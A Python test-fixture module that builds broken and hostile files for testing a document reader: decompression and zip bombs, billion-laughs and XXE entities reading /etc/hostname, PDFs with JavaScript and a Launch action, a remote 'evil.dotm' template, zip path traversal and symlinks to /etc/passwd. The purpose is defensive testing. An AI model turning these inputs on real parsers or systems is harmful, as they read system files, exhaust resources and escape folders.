"""Files that are broken, hostile or merely wrong, made afresh for each test; nothing of them is kept."""

import json
import os
import re
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from io import BytesIO
from pathlib import Path

import docx
import pptx
from docx.shared import RGBColor
from reportlab.lib.pagesizes import A4, landscape
from reportlab.lib.pdfencrypt import StandardEncryption
from reportlab.pdfgen.canvas import Canvas

PARAGRAPH = (
    "Practitioners should record what the child says in the words that the child used, and share it with the lead "
    "professional on the same day. They should say what happens next, and to whom it will be told."
)
"""English as guidance is written, which no rule keeps out."""

# --- PDF -------------------------------------------------------------------------------------------------------


def canvas_pdf(
    draw: Callable[[Canvas], None], *, size: tuple[float, float] = A4, lock: StandardEncryption | None = None
) -> bytes:
    """A PDF drawn on a canvas."""
    file = BytesIO()
    canvas = Canvas(file, pagesize=size, invariant=1, encrypt=lock)
    draw(canvas)
    canvas.save()
    return file.getvalue()


def write_lines(canvas: Canvas, *lines: str, top: float = 760, left: float = 72, size: float = 11) -> None:
    """Lines of body type, one below the other."""
    canvas.setFont("Helvetica", size)
    for number, line in enumerate(lines):
        canvas.drawString(left, top - number * size * 1.25, line)


def guidance_pdf(pages: int = 1, lock: StandardEncryption | None = None) -> bytes:
    """A PDF with text and nothing wrong."""

    def draw(canvas: Canvas) -> None:
        for number in range(pages):
            canvas.setFont("Helvetica-Bold", 16)
            canvas.drawString(72, 790, "Recording what children say")
            write_lines(canvas, f"Part {number + 1} says what was agreed. {PARAGRAPH[:60]}", *wrapped(PARAGRAPH))
            canvas.showPage()

    return canvas_pdf(draw, lock=lock)


def wrapped(text: str, width: int = 85) -> list[str]:
    """The text in lines of body type."""
    lines = [""]
    for word in text.split():
        if len(lines[-1]) + len(word) > width:
            lines.append("")
        lines[-1] = f"{lines[-1]} {word}".strip()
    return lines


def raw_pdf(objects: Iterable[bytes], root: int = 1, trailer: bytes = b"") -> bytes:
    """A PDF of numbered objects, with the table that says where each stands."""
    body, places = b"%PDF-1.7\n", []
    for number, written in enumerate(objects, 1):
        places.append(len(body))
        body += b"%d 0 obj\n" % number + written + b"\nendobj\n"
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1) + b"".join(
        b"%010d 00000 n \n" % at for at in places
    )
    ends = b"trailer\n<< /Size %d /Root %d 0 R %s >>\nstartxref\n%d\n%%%%EOF" % (
        len(places) + 1,
        root,
        trailer,
        len(body),
    )
    return body + table + ends


def stream(content: bytes, filters: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d /Filter [%s] >>\nstream\n" % (len(content), filters) + content + b"\nendstream"


def page_pdf(content: bytes, *, filters: bytes = b"") -> bytes:
    """A PDF of one page with that content stream."""
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> >> >>",
            stream(content, filters),
            b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        ]
    )


def flate_bomb() -> bytes:
    """A page of 400 MB of blanks, packed twice to very little."""
    packer = zlib.compressobj(9)
    once = b"".join(packer.compress(b" " * 1_000_000) for _ in range(400)) + packer.flush()
    return page_pdf(zlib.compress(once, 9), filters=b"/FlateDecode /FlateDecode")


def scanned_pdf(pages: int = 2, head: str = "") -> bytes:
    """Pages that are pictures, at most with one line of type."""

    def draw(canvas: Canvas) -> None:
        for _ in range(pages):
            picture(canvas, 0, 0, *A4)
            if head:
                canvas.setFont("Helvetica", 8)
                canvas.drawString(72, 820, head)
            canvas.showPage()

    return canvas_pdf(draw)


def picture(
    canvas: Canvas, left: float, bottom: float, width: float, height: float, *, see_through: bool = False
) -> None:
    """A grey picture of one dot."""
    from reportlab.lib.utils import ImageReader

    mask = [128] * 6 if see_through else None
    bitmap = b"BM" + struct.pack("<IHHI", 58, 0, 0, 54) + struct.pack("<IiiHHIIiiII", 40, 1, 1, 1, 24, 0, 4, 1, 1, 0, 0)
    canvas.drawImage(ImageReader(BytesIO(bitmap + b"\x80\x80\x80\0")), left, bottom, width, height, mask=mask)


def hidden_text_pdf() -> bytes:
    """Text that no reader sees, in each of the ways, among text that every reader sees."""

    def draw(canvas: Canvas) -> None:
        write_lines(canvas, *wrapped(PARAGRAPH))
        canvas.setFillColorRGB(0, 0, 0.6)
        canvas.rect(72, 500, 300, 20, fill=1, stroke=0)
        canvas.setFillColorRGB(1, 1, 1)
        write_lines(canvas, "White words on a blue banner are seen.", top=506)
        write_lines(canvas, "SECRET in white", top=480)
        canvas.setFillColorRGB(0, 0, 0)
        write_lines(canvas, "SECRET and tiny", top=460, size=1)
        write_lines(canvas, "SECRET below the page", top=-60)
        write_lines(canvas, "SECRET beside the page", top=440, left=700)
        invisible = canvas.beginText(72, 420)
        invisible.setTextRenderMode(3)
        invisible.textLine("SECRET and invisible")
        canvas.drawText(invisible)

    return canvas_pdf(draw)


def redacted_pdf() -> bytes:
    """Names under a black box and under a picture, which a copy of the text still has."""

    def draw(canvas: Canvas) -> None:
        write_lines(canvas, *wrapped(PARAGRAPH))
        write_lines(canvas, "The worker was SECRETNAME of the team.", top=600)
        write_lines(canvas, "SECRETPLACE", top=560)
        width = canvas.stringWidth("The worker was ", "Helvetica", 11)
        canvas.rect(72 + width, 597, canvas.stringWidth("SECRETNAME", "Helvetica", 11), 12, fill=1, stroke=0)
        picture(canvas, 70, 556, 90, 14)

    return canvas_pdf(draw)


def unmapped_font_pdf() -> bytes:
    """Words in a font without a map: each letter comes out as the one 29 places before it, as such fonts do."""
    shifted = "".join(chr(ord(letter) - 29) if letter.isalpha() else letter for letter in PARAGRAPH * 6)
    escaped = (re.sub(r"([\\()])", r"\\\1", line) for line in wrapped(shifted))
    lines = b"".join(b"(%s) Tj T*\n" % line.encode() for line in escaped)
    return page_pdf(b"BT /F1 11 Tf 14 TL 72 780 Td\n" + lines + b"ET")


def looping_pdf(kind: str) -> bytes:
    """A PDF that leads in a circle: in its table of objects, its outline or its tree of pages."""
    text = stream(b"BT /F1 11 Tf 72 700 Td (%s) Tj ET" % PARAGRAPH[:80].encode())
    font = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>"
    )
    if kind == "pages":
        kids = b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 /Parent 2 0 R >>"
        return raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", kids, page, text, font])
    if kind == "outline":
        return raw_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R /Outlines 6 0 R >>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                *(page, text, font),
                b"<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 1 >>",
                b"<< /Title (Round) /Parent 6 0 R /Next 7 0 R /First 7 0 R /Dest [3 0 R /Fit] >>",
            ]
        )
    whole = raw_pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, text, font]
    )
    table = whole.rindex(b"xref\n0 ")
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % table)


def active_pdf() -> bytes:
    """Guidance with a script, a command and an attachment."""
    whole = guidance_pdf()
    script = b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /AA << /WC << /S /Launch /F (calc.exe) >> >>"
    return whole.replace(b"/Type /Catalog", script + b" /Type /Catalog")


# --- Word and PowerPoint ---------------------------------------------------------------------------------------


def word(*paragraphs: str, title: str = "Recording") -> bytes:
    """A Word document with a heading and paragraphs."""
    document = docx.Document()
    document.add_heading(title, 1)
    for words in paragraphs or (PARAGRAPH,):
        document.add_paragraph(words)
    return saved(document)


def saved(document: "docx.document.Document | pptx.presentation.Presentation") -> bytes:
    """The bytes of a document that was made in memory."""
    file = BytesIO()
    document.save(file)
    return file.getvalue()


def repacked(
    package: bytes,
    change: Mapping[str, Callable[[bytes], bytes]] | None = None,
    add: Mapping[str, bytes | Iterable[bytes]] | None = None,
) -> bytes:
    """A package with some parts changed and others added."""
    file = BytesIO()
    with zipfile.ZipFile(BytesIO(package)) as old, zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in (add or {}):
                content = old.read(name)
                new.writestr(name, change[name](content) if change and name in change else content)
        for name, parts in (add or {}).items():
            with new.open(name, "w", force_zip64=True) as part:
                for piece in [parts] if isinstance(parts, bytes) else parts:
                    part.write(piece)
    return file.getvalue()


BODY = b"<w:body>"
_HEAD = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
)
_TAIL = b"</w:body></w:document>"


def bomb_of_one_text() -> bytes:
    """A few hundred kilobytes that unpack to 300 MB of one run."""
    filling = (b"A" * 1_000_000 for _ in range(300))
    return repacked(word(), add={"word/document.xml": _around(b"<w:p><w:r><w:t>", filling, b"</w:t></w:r></w:p>")})


def bomb_of_paragraphs() -> bytes:
    """Two million paragraphs, packed to very little."""
    filling = (b"<w:p/>" * 1000 for _ in range(2000))
    return repacked(word(), add={"word/document.xml": _around(b"", filling, b"")})


def many_paragraphs() -> bytes:
    """Two hundred thousand and one, each of its own, so that nothing but their number is odd."""
    filling = (b"<w:p><w:r><w:t>%d</w:t></w:r></w:p>" % (number * 7919) for number in range(200_001))
    return repacked(word(), add={"word/document.xml": _around(b"", filling, b"")})


def _around(before: bytes, filling: Iterable[bytes], after: bytes) -> Iterable[bytes]:
    yield _HEAD + before
    yield from filling
    yield after + _TAIL


def with_doctype(declaration: bytes) -> bytes:
    """A Word document whose text is an entity."""

    def declare(part: bytes) -> bytes:
        part = part.replace(b"<w:document ", declaration + b"<w:document ", 1)
        return part.replace(b"<w:body>", b"<w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p>", 1)

    return repacked(word(), {"word/document.xml": declare})


XXE = b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]>'
LAUGHS = (
    b'<!DOCTYPE r [<!ENTITY a "lol">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + level, b"&%c;" % (97 + level) * 10) for level in range(9))
    + b'<!ENTITY x "&j;">]>'
)


def hidden_word() -> bytes:
    """A Word document with hidden, white, deleted and annotated text."""
    document = docx.Document()
    paragraph = document.add_paragraph(PARAGRAPH)
    paragraph.add_run(" SECRET hidden").font.hidden = True
    paragraph.add_run(" SECRET white").font.color.rgb = RGBColor(255, 255, 255)
    document.add_comment(paragraph.runs[0], "SECRET comment", author="A")
    deleted = b'<w:p><w:del w:id="9" w:author="A"><w:r><w:delText>SECRET deleted</w:delText></w:r></w:del>'
    inserted = b'<w:ins w:id="8" w:author="A"><w:r><w:t>Inserted words stay.</w:t></w:r></w:ins></w:p>'
    return repacked(
        saved(document), {"word/document.xml": lambda part: part.replace(BODY, BODY + deleted + inserted, 1)}
    )


def word_with_boxes() -> bytes:
    """A Word document with a text box, a footnote, a header and a footer."""
    document = docx.Document()
    document.add_heading("Recording", 1)
    document.add_paragraph(PARAGRAPH)
    document.sections[0].header.paragraphs[0].text = "RUNNING HEAD"
    document.sections[0].footer.paragraphs[0].text = "RUNNING FOOT"
    box = (
        b'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent><w:p><w:r>'
        b"<w:t>Boxed advice is kept.</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p>"
    )
    notes = (
        b'<?xml version="1.0"?><w:footnotes xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b'<w:footnote w:type="separator" w:id="-1"><w:p/></w:footnote>'
        b'<w:footnote w:id="1"><w:p><w:r><w:t>The footnote is kept.</w:t></w:r></w:p></w:footnote></w:footnotes>'
    )
    relation = (
        b'<Relationship Id="rIdNotes" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes"'
        b' Target="footnotes.xml"/></Relationships>'
    )
    override = (
        b'<Override PartName="/word/footnotes.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'wordprocessingml.footnotes+xml"/></Types>'
    )
    return repacked(
        saved(document),
        {
            "word/document.xml": lambda part: part.replace(b"<w:sectPr", box + b"<w:sectPr", 1),
            "word/_rels/document.xml.rels": lambda part: part.replace(b"</Relationships>", relation),
            "[Content_Types].xml": lambda part: part.replace(b"</Types>", override),
        },
        {"word/footnotes.xml": notes},
    )


def word_with_merged_cells() -> bytes:
    """A table with a cell that hangs down over two rows, and one that spans two columns."""
    document = docx.Document()
    document.add_paragraph(PARAGRAPH)
    table = document.add_table(4, 3)
    rows = (
        ("Age", "Sign", "What to do"),
        ("Under 5", "Bruises", "Call"),
        ("", "Fear", "Listen"),
        ("Any age", "", "Ask"),
    )
    for row, cells in zip(table.rows, rows, strict=True):
        for cell, words in zip(row.cells, cells, strict=True):
            cell.text = words
    table.cell(1, 0).merge(table.cell(2, 0))
    table.cell(3, 0).merge(table.cell(3, 1))
    return saved(document)


def word_with_remote_template() -> bytes:
    """A Word document that fetches its template from the web."""
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://example.org/evil.dotm" TargetMode="External"/></Relationships>'
    )
    return repacked(word(), add={"word/_rels/settings.xml.rels": relations})


def archive(names: Mapping[str, bytes], *, link: str | None = None) -> bytes:
    """A ZIP archive with those members, and a symbolic link."""
    file = BytesIO()
    with zipfile.ZipFile(file, "w") as package:
        for name, content in names.items():
            package.writestr(name, content)
        if link:
            entry = zipfile.ZipInfo(link)
            entry.external_attr = 0o120777 << 16
            package.writestr(entry, "/etc/passwd")
    return file.getvalue()


def word_with_strange_names() -> dict[str, bytes]:
    """Word documents whose packages have names that lead out of them."""
    parts = dict.fromkeys(("../../escaped.txt",), b"x")
    link = BytesIO(word())
    with zipfile.ZipFile(link, "a") as package:
        entry = zipfile.ZipInfo("word/media/link.png")
        entry.external_attr = 0o120777 << 16
        package.writestr(entry, "/etc/passwd")
    return {
        "up.docx": repacked(word(), add=parts),
        "absolute.docx": repacked(word(), add={"/etc/escaped.txt": b"x"}),
        "link.docx": link.getvalue(),
    }


# --- HTML, Markdown, text --------------------------------------------------------------------------------------


def html(body: str, *, title: str = "Recording what children say", head: str = "") -> str:
    """A web page."""
    return f"<!doctype html><html><head><title>{title}</title>{head}</head><body>{body}</body></html>"


def main_html(words: str = PARAGRAPH) -> str:
    """A web page with a menu and a main part."""
    return html(f"<nav>Menu words</nav><main><h1>Recording what children say</h1><p>{words}</p></main>")


HIDDEN_HTML = html(
    "<style>.gone{display:none} @media print{.kept{display:none}}</style><main><h1>Recording</h1>"
    f"<p>{PARAGRAPH}</p><p class='kept'>Kept on screen.</p>"
    "<p style='display: none'>SECRET none</p><p hidden>SECRET hidden</p><!-- SECRET comment -->"
    "<noscript>SECRET noscript</noscript><span style='font-size:0px'>SECRET zero</span><p class='gone'>SECRET class</p>"
    "<span aria-hidden='true'>SECRET aria</span><p style='visibility:hidden'>SECRET visibility</p></main>"
)
ACTIVE_HTML = html(
    f"<main><h1>Recording</h1><p>{PARAGRAPH}</p><script>SECRET()</script><iframe src='https://example.org'>SECRET</iframe>"
    "<a href='javascript:SECRET()'>A link keeps its words.</a></main>",
    head="<base href='https://example.org/'><meta http-equiv='refresh' content='0;url=https://example.org/SECRET'>",
)
LOGIN_HTML = html(
    "<main><h1>Sign in</h1><p>Sign in to continue.</p><form>User name Password</form></main>", title="Sign in"
)
COOKIE_HTML = html(
    "<main><h1>Cookies</h1><p>We use cookies to make this site work. Accept additional cookies?</p></main>",
    title="Cookies",
)
MISSING_HTML = html(
    "<main><h1>Page not found</h1><p>If you typed the web address, check it is correct.</p></main>",
    title="Page not found",
)


def nested_html(depth: int = 60_000) -> str:
    """Boxes in boxes."""
    return html(f"{'<div>' * depth}{PARAGRAPH}{'</div>' * depth}")


def corpus_json() -> str:
    """Data that is dressed as a document."""
    return json.dumps([{"id": number, "text": PARAGRAPH} for number in range(20)], indent=1)


def corpus_csv() -> str:
    """The same as a table."""
    return "\n".join(["id,age,score,area", *(f"{number},{number % 18},0.{number},North" for number in range(40))])


# --- The file system -------------------------------------------------------------------------------------------


def sparse(path: Path, size: int) -> None:
    """A file that says it is so large and takes no room."""
    with path.open("wb") as file:
        file.write(b"%PDF-1.7\n")
        file.truncate(size)


def device_like(folder: Path) -> None:
    """A pipe, and links to a device, out of the folder and to nowhere."""
    os.mkfifo(folder / "pipe.pdf")
    (folder / "device.txt").symlink_to("/dev/zero")
    (folder / "out.md").symlink_to("/etc/hostname")
    (folder / "gone.html").symlink_to(folder / "nothing.html")


def landscape_pdf() -> bytes:
    """A landscape page, and one that is turned."""

    def draw(canvas: Canvas) -> None:
        write_lines(canvas, *wrapped(PARAGRAPH), top=500)
        canvas.showPage()
        canvas.setPageRotation(90)
        canvas.saveState()
        canvas.rotate(90)
        write_lines(canvas, *wrapped("Turned pages are read as well. " + PARAGRAPH), top=-100)
        canvas.restoreState()
        canvas.showPage()

    return canvas_pdf(draw, size=landscape(A4))


def owner_locked(*, may_copy: bool) -> bytes:
    """A PDF that anybody may open but not change, and perhaps not copy."""
    lock = StandardEncryption("", "owner", canCopy=int(may_copy), canModify=0, strength=128)
    return guidance_pdf(lock=lock)


def locked() -> bytes:
    """A PDF that asks for a password."""
    return guidance_pdf(lock=StandardEncryption("user", "owner", strength=128))
